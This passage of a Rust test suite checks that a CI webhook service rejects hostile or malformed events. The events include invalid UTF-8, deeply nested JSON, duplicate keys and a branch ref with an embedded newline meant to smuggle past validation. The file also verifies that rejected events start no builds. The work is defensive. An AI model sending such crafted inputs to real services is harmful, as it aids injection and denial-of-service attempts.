                    other => panic!("{}: expected one job failure, got {other:?}", case.name),
                }
            }
            Expect::ActsWithRefAsData => {
                assert_eq!(d.outcome, Outcome::Acted, "{}: {d:?}", case.name);
                let env = branch_env(&d);
                let branch = &env.iter().find(|(k, _)| k == "BRANCH_NAME").unwrap().1;
                switchyard_core::refs::RefName::parse(branch).unwrap();
                // Every other value (derived names, repository, commit) is free of anything a
                // shell, a URL or a terminal would interpret; a repository id may hold the `:`
                // that separates its host (`gitlab:group/project`).
                for (name, value) in env.iter().filter(|(k, _)| k != "BRANCH_NAME") {
                    // Lists (the stack tags, the teardown plan) are space-separated words of
                    // `key=value` tag characters: split by the buildspecs, never evaluated.
                    let extra = match name.as_str() {
                        "STACK_TAGS" => ":=+ ",
                        "TEARDOWN_STACKS" => " ",
                        // A repository id names its host: `gitlab:group/project`.
                        "REPOSITORY" => ":",
                        _ => "",
                    };
                    assert!(
                        value.chars().all(|c| c.is_ascii_alphanumeric()
                            || "-_./@".contains(c)
                            || extra.contains(c)),
                        "{}: {name}={value:?}",
                        case.name
                    );
                }
            }
        }
    }
}

#[test]
fn hostile_inputs_are_rejected_with_a_reason_or_carried_as_data() {
    let cases = cases();
    assert!(cases.len() >= 25);
    for case in &cases {
        check(case);
    }
}

/// The Lambda runtime deserializes each invocation with `serde_json` (lambda_runtime's
/// `deserializer.rs`) before any handler runs; bytes that are not JSON fail the invocation there
/// with "failed to deserialize the incoming data", so no function ever sees them.
#[test]
fn lambda_payloads_that_are_not_json_never_reach_a_function() {
    let cases: [(&str, Vec<u8>, &str); 5] = [
        (
            "invalid UTF-8",
            b"{\"id\":\"\xff\"}".to_vec(),
            "invalid unicode",
        ),
        (
            "raw NUL in a string",
            b"{\"id\":\"a\0b\"}".to_vec(),
            "control character",
        ),
        (
            "nested 100 000 deep",
            nested(100_000).into_bytes(),
            "recursion limit exceeded",
        ),
        (
            "unpaired surrogate escape",
            br#"{"id":"\ud800"}"#.to_vec(),
            "hex escape",
        ),
        ("truncated", br#"{"id":"e-1","detail":{"#.to_vec(), "EOF"),
    ];
    for (name, bytes, why) in cases {
        let err = serde_json::from_slice::<Value>(&bytes)
            .expect_err(name)
            .to_string();
        assert!(err.contains(why), "{name}: {err}");
    }
    // Nesting just under the limit parses, and every function still answers without acting.
    let deep: Value = serde_json::from_str(&format!("{{\"detail\":{}}}", nested(120))).unwrap();
    for (function, d) in decide_with_every_function(&deep) {
        assert!(d.actions.is_empty(), "{function}: {d:?}");
    }
}

/// See the module documentation: the last duplicate wins, in routing and in deciding alike.
#[test]
fn duplicated_json_keys_last_one_wins_everywhere() {
    let v: Value = serde_json::from_str(r#"{"ref":"first","ref":"second"}"#).unwrap();
    assert_eq!(v["ref"], "second");

    // A signed push naming a tag first and a branch second is routed to, and decided as, the
    // branch; the tag is never looked at.
    let body = format!(
        r#"{{"ref":"refs/tags/prod_eu-west-1/payments/1.0.0","ref":"refs/heads/feature/second","created":true,"deleted":false,"after":"{SHA}","repository":{{"full_name":"acme/payments-service","full_name":"acme/payments-service"}}}}"#
    );
    let event = signed("push", body.as_bytes());
    assert_eq!(
        switchyard_core::route::function_for(&event),
        Some(FunctionName::BranchPipelines)
    );
    let decisions = decide_with_every_function(&event);
    let (_, d) = decisions
        .iter()
        .find(|(f, _)| *f == FunctionName::BranchPipelines)
        .unwrap();
    assert_eq!(d.outcome, Outcome::Acted, "{d:?}");
    let env = branch_env(d);
    assert!(
        env.contains(&("BRANCH_NAME".into(), "feature/second".into())),
        "{env:?}"
    );

    // The other way round, a duplicate cannot smuggle an invalid ref past validation.
    let body = format!(
        r#"{{"ref":"refs/heads/feature/ok","ref":"refs/heads/feature/x\nid","created":true,"after":"{SHA}","repository":{{"full_name":"acme/payments-service"}}}}"#
    );
    for (_, d) in decide_with_every_function(&signed("push", body.as_bytes())) {
        assert!(d.is_rejected() || d.actions.is_empty(), "{d:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Wrong types in every field

/// Every leaf of a JSON document, as (path, value).
fn leaves(v: &Value, path: &mut Vec<String>, out: &mut Vec<(Vec<String>, Value)>) {
    match v {
        Value::Object(m) if !m.is_empty() => {
            for (k, child) in m {
                path.push(k.clone());
                leaves(child, path, out);
                path.pop();
            }
        }
        Value::Array(a) if !a.is_empty() => {
            for (i, child) in a.iter().enumerate() {
                path.push(i.to_string());
                leaves(child, path, out);
                path.pop();
            }
        }
        leaf => out.push((path.clone(), leaf.clone())),
    }
}

fn set(v: &mut Value, path: &[String], new: Value) {
    let mut cur = v;
    for key in path {
        cur = match cur {
            Value::Array(a) => &mut a[key.parse::<usize>().unwrap()],
            other => &mut other[key.as_str()],
        };
    }
    *cur = new;
}

fn same_type(a: &Value, b: &Value) -> bool {
    std::mem::discriminant(a) == std::mem::discriminant(b)
}

/// One value of each JSON type; each field gets every one that is not its own type.
fn wrong_values() -> [Value; 6] {
    [
        json!(7),
        json!(true),
        json!("x"),
        json!([]),
        json!({}),
        Value::Null,
    ]
}

/// Fields whose value decides which function an event is for: changing them makes the event
/// someone else's (unsupported), which is a correct answer too.
const ROUTING_FIELDS: [&str; 8] = [
    // branch-pipelines' sweep event (`{"switchyard": "branch-sweep", …}`).
    "switchyard",
    "Event",
    "source",
    "detail-type",
    "requestContext",
    "Records",
    "eventSource",
    "EventSource",
];

/// The function's decisions (one per record), each checked for soundness.
fn decisions_of(function: FunctionName, event: &Value) -> Vec<Decision> {
    let decisions = decide(function, event);
    decisions.iter().for_each(assert_sound);
    decisions
}

/// Checks one mutation: a decision names the field, or nothing changed (the field is not read),
/// or — for `null` — the decisions are those on the event without that field (null means
/// absent), or the event is no longer this function's. And no action appears that the original
/// event did not plan.
fn check_mutation(function: FunctionName, original: &[Decision], path: &[String], event: &Value) {
    let field = path.last().unwrap();
    let ds = decisions_of(function, event);
    let names_field = ds
        .iter()
        .any(|d| d.is_rejected() && d.reason.contains(field.as_str()));
    let as_if_absent = value_at(event, path) == "null" && {
        let mut without = event.clone();
        remove(&mut without, path);
        decisions_of(function, &without) == ds
    };
    let unchanged = ds == original || as_if_absent;
    let rerouted = path.iter().any(|p| ROUTING_FIELDS.contains(&p.as_str()))
        && ds
            .iter()
            .all(|d| d.outcome == Outcome::Rejected(RejectKind::Unsupported));
    assert!(
        names_field || unchanged || rerouted,
        "{function}: {} changed to {} gave {ds:?} (was {original:?})",
        path.join("."),
        value_at(event, path)
    );
    for d in ds.iter().filter(|d| !d.actions.is_empty()) {
        assert!(
            original.contains(d) || as_if_absent,
            "{}: a new action: {d:?}",
            path.join(".")
        );
    }
}

fn remove(v: &mut Value, path: &[String]) {
    let (last, parents) = path.split_last().unwrap();
    let mut cur = v;
    for key in parents {
        cur = match cur {
            Value::Array(a) => &mut a[key.parse::<usize>().unwrap()],
            other => &mut other[key.as_str()],
        };
    }
    if let Value::Object(m) = cur {
        m.remove(last);
    }
}

/// The value at `path`, for messages.
fn value_at(v: &Value, path: &[String]) -> String {
    let mut cur = v;
    for key in path {
        cur = match cur {
            Value::Array(a) => &a[key.parse::<usize>().unwrap()],
            other => &other[key.as_str()],
        };
    }
    cur.to_string()
}

#[test]
fn wrong_types_in_every_field_of_every_sample() {
    let mut samples = Vec::new();
    collect_samples(&repo_root().join("events"), &mut samples);
    let mut mutations = 0;
    for path in samples {
        let event: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        let Some(function) = switchyard_core::route::function_for(&event) else {
            continue;
        };
        let original = decisions_of(function, &event);
        // The envelope: every field of the Lambda event.
        let mut all = Vec::new();
        leaves(&event, &mut Vec::new(), &mut all);
        for (field, value) in &all {
            for wrong in wrong_values().into_iter().filter(|w| !same_type(w, value)) {
                let mut e = event.clone();
                set(&mut e, field, wrong);
                check_mutation(function, &original, field, &e);
                mutations += 1;
            }
        }
        // A webhook's payload: every field of the body, re-signed (by each host's scheme) so it
        // passes authentication.
        if switchyard_core::sources::function_url::is_http_request(&event)
            && original[0].outcome != Outcome::Rejected(RejectKind::Unauthenticated)
        {
            let request =
                switchyard_core::sources::function_url::parse_http_request(&event).unwrap();
            let payload: Value = serde_json::from_slice(&request.body).unwrap();
            let mut all = Vec::new();
            leaves(&payload, &mut Vec::new(), &mut all);
            for (field, value) in &all {
                for wrong in wrong_values().into_iter().filter(|w| !same_type(w, value)) {
                    let mut p = payload.clone();
                    set(&mut p, field, wrong);
                    let e = resigned(&event, p.to_string().as_bytes());
                    check_mutation(function, &original, field, &e);
                    mutations += 1;
                }
            }
        }
    }
    assert!(mutations > 1000, "only {mutations} mutations");
}

fn collect_samples(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            collect_samples(&p, out);
        } else if p.extension().is_some_and(|e| e == "json") {
            out.push(p);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Replays and the real handler

/// Deciding is pure: the same event, delivered again, gives the same plan with the same
/// idempotency tokens, so AWS can recognise the repeat.
#[test]
fn replayed_deliveries_give_identical_plans() {
    let mut samples = Vec::new();
    collect_samples(&repo_root().join("events"), &mut samples);
    let mut acted = 0;
    for path in samples {
        let event: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        let first = decide_with_every_function(&event);
        let again = decide_with_every_function(&event.clone());
        assert_eq!(first, again, "{}", path.display());
        acted += first
            .iter()
            .filter(|(_, d)| d.outcome == Outcome::Acted)
            .count();
    }
    assert!(
        acted > 0,
        "no sample acted; the replay check proved nothing"
    );
}

/// Every case through the real handler and SDK client against moto: rejected cases send nothing
/// (moto's recorder sees no request), acting cases send exactly one request each, and a replayed
/// delivery carries the same idempotency token.
#[tokio::test]
async fn through_the_handler_rejected_inputs_send_no_request() {
    let sdk = moto().sdk().await;
    for var in ["BRANCH_DEPLOYER_PROJECT", "BRANCH_DESTROYER_PROJECT"] {
        create_codebuild_project(&sdk, &vars()[var]).await;
    }
    let executor = AwsExecutor::new(sdk);
    let sent = || moto().recorded("StartBuild");
    let handle = |event: Value| {
        let executor = &executor;
        async move {
            for (function, decision) in decide_with_every_function(&event) {
                let _ = entry::run(function, &event, decision, &Tally::default(), executor).await;
            }
        }
    };

    for case in cases() {
        let before = sent().len();
        handle(case.event.clone()).await;
        let after = sent();
        match case.expect {
            // A job's failure is reported to CodePipeline (which moto lacks), nothing else.
            Expect::Rejected(..) | Expect::JobFails(..) | Expect::Skipped(..) => {
                assert_eq!(after.len(), before, "{}: a request was sent", case.name)
            }
            Expect::ActsWithRefAsData => {
                assert_eq!(after.len(), before + 1, "{}", case.name);
                // The raw ref reached AWS only as the BRANCH_NAME variable's value.
                let request = &after[before];
                assert!(request.get("buildspecOverride").is_none(), "{}", case.name);
                let vars = request["environmentVariablesOverride"].as_array().unwrap();
                let branch = vars.iter().find(|v| v["name"] == "BRANCH_NAME").unwrap();
                assert_eq!(branch["type"], "PLAINTEXT");
            }
        }
    }

    // Decided twice without the delivery store (tests/webhook_deliveries.rs has it), the same
    // delivery sends the same token twice (CodeBuild de-duplicates it).
    let replayed = github_push("refs/heads/feature/replayed");
    let before = sent().len();
    handle(replayed.clone()).await;
    handle(replayed).await;
    let after = sent();
    assert_eq!(after.len(), before + 2);
    assert_eq!(
        after[before]["idempotencyToken"],
        after[before + 1]["idempotencyToken"]
    );
}

// ---------------------------------------------------------------------------------------------
// kafka-sync: desired-state text from Git

/// A malformed `{{ env.… }}` reference is quoted in its error, cut to 60 bytes; the cut must fall
/// on a character boundary whatever the text (it panicked before; found while writing the
/// `kafka_sync` fuzz target).
#[test]
fn malformed_env_references_with_multibyte_text_are_errors_not_panics() {
    use switchyard_core::kafka_sync::desired::template;
    let env = std::collections::BTreeMap::from([("port".to_string(), "5432".to_string())]);
    for pad in 0..4 {
        let text = format!("{{{{ env.a{}{}", "b".repeat(pad), "é".repeat(40));
        let err = template::render(&text, &env).expect_err(&text).to_string();
        assert!(err.contains("malformed reference"), "{err}");
    }
}
